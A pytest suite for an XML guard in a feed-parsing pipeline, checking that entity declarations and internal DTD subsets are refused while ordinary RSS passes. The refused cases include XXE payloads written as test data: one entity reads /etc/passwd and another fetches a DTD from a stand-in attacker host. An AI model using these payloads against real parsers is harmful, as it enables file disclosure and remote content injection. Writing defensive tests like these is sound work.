from __future__ import annotations

import contextlib
import time

import pytest

from pipeline.errors import ParseError
from pipeline.sources.xml_guard import refuse_entity_declarations

RSS = '<rss version="2.0"><channel><title>t</title></channel></rss>'


@pytest.mark.parametrize(
    ("document", "message"),
    [
        ('<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY lol "lol">]>' + RSS, "declares XML entities"),
        ('<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' + RSS, "declares XML entities"),
        ('<!DOCTYPE rss [<!ENTITY % pe SYSTEM "http://evil.example/x.dtd"> %pe;]>' + RSS, "declares XML entities"),
        ("<!DOCTYPE rss [<!ELEMENT rss ANY>]>" + RSS, "internal DTD subset"),
        ("<!doctype rss [ ]>" + RSS, "internal DTD subset"),
        # feedparser copies entity declarations it finds before the root, even outside a DOCTYPE
        ('<!ENTITY a "aaaa"><!DOCTYPE rss>' + RSS, "declares XML entities"),
        ('<!-- <!ENTITY a "aaaa"> --><!DOCTYPE rss>' + RSS, "declares XML entities"),
        # a comment that looks like an element must not end the prolog early
        ('<!-- <a --><!DOCTYPE rss [<!ENTITY a "b">]>' + RSS, "declares XML entities"),
        ('<?pi <b ?><!DOCTYPE rss [<!ENTITY a "b">]>' + RSS, "declares XML entities"),
        # an unterminated comment: the whole document is prolog
        ('<!-- never closed <!DOCTYPE rss [<!ENTITY a "b">]>' + RSS, "declares XML entities"),
    ],
)
def test_refused(document: str, message: str) -> None:
    with pytest.raises(ParseError, match=message):
        refuse_entity_declarations(document)


@pytest.mark.parametrize(
    "document",
    [
        RSS,
        '<?xml version="1.0" encoding="utf-8"?>' + RSS,
        '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
        '"http://my.netscape.com/publish/formats/rss-0.91.dtd">' + RSS,
        '<!DOCTYPE rss SYSTEM "file:///etc/passwd">' + RSS,
        "<!-- a comment --><?xml-stylesheet href='s.xsl'?>" + RSS,
        # entity text inside the document body (an article about XXE) is content, not a declaration
        "<rss><channel><item><description>"
        '<![CDATA[<!DOCTYPE x [<!ENTITY a "b">]>]]>'
        "</description></item></channel></rss>",
        "<rss><channel><item><description>&lt;!ENTITY a&gt;</description></item></channel></rss>",
        "",
    ],
)
def test_allowed(document: str) -> None:
    refuse_entity_declarations(document)


@pytest.mark.parametrize(
    "hostile",
    ["<!DOCTYPE " * 200_000, "<!-- " * 200_000, "<" * 1_000_000, "<?" * 500_000],
)
def test_linear_time_on_hostile_input(hostile: str) -> None:
    started = time.perf_counter()
    with contextlib.suppress(ParseError):
        refuse_entity_declarations(hostile + RSS)
    assert time.perf_counter() - started < 5  # quadratic scanning would take minutes
